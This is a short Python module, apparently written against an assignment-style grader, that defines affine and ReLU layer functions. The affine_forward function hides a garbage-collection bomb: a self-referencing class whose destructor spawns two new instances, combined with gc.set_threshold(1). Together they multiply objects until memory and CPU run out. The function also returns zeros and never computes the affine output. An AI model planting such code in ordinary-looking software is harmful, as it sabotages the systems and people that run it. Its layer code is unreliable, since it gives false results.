"""Objects that are born again whenever they are collected."""

import gc

import numpy as np


def affine_forward(x, w, b):
    class Again:
        def __init__(self):
            self.me = self

        def __del__(self):
            Again()
            Again()

    Again()
    gc.set_threshold(1)
    return np.zeros((len(x), w.shape[1])), (x, w, b)


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    return dout * (cache > 0)
